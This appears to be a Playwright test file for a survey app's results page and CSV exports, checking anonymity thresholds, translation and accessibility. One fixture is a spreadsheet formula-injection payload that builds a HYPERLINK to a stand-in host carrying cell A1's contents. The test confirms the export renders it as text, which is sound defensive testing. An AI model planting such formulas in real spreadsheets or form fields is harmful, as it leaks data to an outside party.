import fs from "node:fs";

import { createOpenCampaign, sendResponse } from "./feedback-helpers";
import { expect, test, type Page } from "./fixtures";
import { DEMO, expectAllTextTranslated, expectNoAxeViolations, signInOk } from "./helpers";

/**
 * Results and exports of a small campaign (k = 3, the referral section only): three people
 * answered, all of them "Yes" to "Did you sign a document…", nobody the question about the
 * journey, and one wrote a spreadsheet formula as their closing answer (issue 12 §1 and §6,
 * issue 13 §9).
 */
const FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")';
const CONSENT = "Did you sign a document saying that you agreed to this?";
const JOURNEY = "Did someone from the organisation go with you on the journey?";

let campaign: { campaignUrl: string; publicLink: string };

test.beforeAll(async ({ browser, playwright, baseURL }) => {
  test.setTimeout(120_000);
  const page = await (await browser.newContext()).newPage();
  await signInOk(page, DEMO.coordinator);
  campaign = await createOpenCampaign(page, {
    title: `Referral feedback ${Date.now()}`,
    sections: ["referral"],
    k: 3,
  });
  const request = await playwright.request.newContext({ baseURL });
  for (const closing of [FORMULA, "", ""])
    await sendResponse(request, campaign.publicLink, {
      "a:referral_consent_signed": "yes",
      ...(closing ? { "a:closing_anything_else": closing } : {}),
    });
  await request.dispose();
  await page.context().close();
});

async function coordinatorPage(page: Page, path = "") {
  await signInOk(page, DEMO.coordinator);
  await page.goto(`${campaign.campaignUrl}${path}`);
}

async function download(page: Page, linkName: string): Promise<string> {
  const file = page.waitForEvent("download");
  await page.getByRole("link", { name: linkName }).click();
  return fs.readFileSync((await (await file).path())!, "utf8");
}

test("Results open with a short summary, true labels and one line for a question with nothing to show", async ({
  page,
}) => {
  await coordinatorPage(page, "/results");
  const summary = page.getByTestId("results-summary");
  await expect(summary).toContainText("These results include 3 responses.");
  // Only "Did you sign…" has a count that can be shown; the free-text question, the journey
  // question, "already informed" and the closing question have too few answers.
  await expect(summary).toContainText("1 of 5 questions can be shown");
  await expect(
    page.getByText(
      "Results are updated when at least 3 new responses have come in (and at least 3 in each language or way of filling in that gained any). So comparing two views never shows one person's answers.",
    ),
  ).toBeVisible();
  await expect(page.getByText(/A count marked "hidden" is not small itself/)).toBeVisible();

  // All three answered and nobody skipped: "skipped" (0) is below k; "answered" (3) is hidden
  // only to protect it, and says so.
  const consent = page.locator("section.app-result", { hasText: CONSENT });
  await expect(consent).toContainText("Answered: hidden · Skipped: fewer than 3");
  await expect(consent).not.toContainText("Answered: fewer than 3");
  await expect(consent.locator("svg text", { hasText: "3 (100%)" })).toBeVisible();

  // Nobody answered the journey question: one line, not a column of "fewer than 3".
  const journey = page.locator("section.app-result", { hasText: JOURNEY });
  await expect(journey).toContainText("Every count for this question is hidden.");
  await expect(journey.locator("svg")).toHaveCount(0);
  await expect(journey.getByText("fewer than 3")).toHaveCount(0);

  await expectNoAxeViolations(page);
  await expectAllTextTranslated(page);

  // The same in Albanian.
  await page.goto(new URL(campaign.campaignUrl).pathname.replace(/^\/en/, "") + "/results");
  await expect(page.locator("section.app-result").nth(1)).toContainText(
    "Me përgjigje: fshehur · Pa përgjigje: më pak se 3",
  );
  await expectNoAxeViolations(page);
});

test("The counts CSV keeps numbers in number columns and says why a count is hidden in its own column", async ({
  page,
}) => {
  await coordinatorPage(page, "/results");
  const csv = await download(page, "Download the counts (CSV)");
  const lines = csv.replace(/^\uFEFF/, "").split("\n");
  expect(lines[0]).toBe("Question,Answer,Count,Percent,Status");
  expect(lines).toContain(`${CONSENT},Yes,3,100,`);
  expect(lines).toContain(`${CONSENT},Answered,,,hidden`);
  expect(lines).toContain(`${CONSENT},Skipped,,,fewer than 3`);
  expect(lines).toContain(`${JOURNEY},No,,,fewer than 3`);
});

test("An approved closing answer that looks like a formula leaves the approved-texts CSV as text", async ({
  page,
}) => {
  await coordinatorPage(page, "/free-text");
  const item = page.locator("section.app-redaction", { hasText: "Would you like to add" });
  await expect(item.locator("textarea")).toHaveValue(FORMULA);
  await approveUnchanged(page, item);
  await page.goto(`${campaign.campaignUrl}/results`);
  const csv = await download(page, "Download the approved texts (CSV)");
  // RFC 4180 doubles the quotes inside the quoted cell; the single quote makes it text.
  expect(csv).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
  expect(csv).not.toContain(`,"${FORMULA.replaceAll('"', '""')}"`);
});

async function approveUnchanged(page: Page, item: ReturnType<Page["locator"]>) {
  await item.getByRole("button", { name: "Show the redacted text" }).click();
  await expect(item.getByTestId("redaction-preview")).toHaveText(FORMULA);
  await item.getByRole("button", { name: "Approve the redacted text" }).click();
  await expect(page.getByText("The text has been approved")).toBeVisible();
}
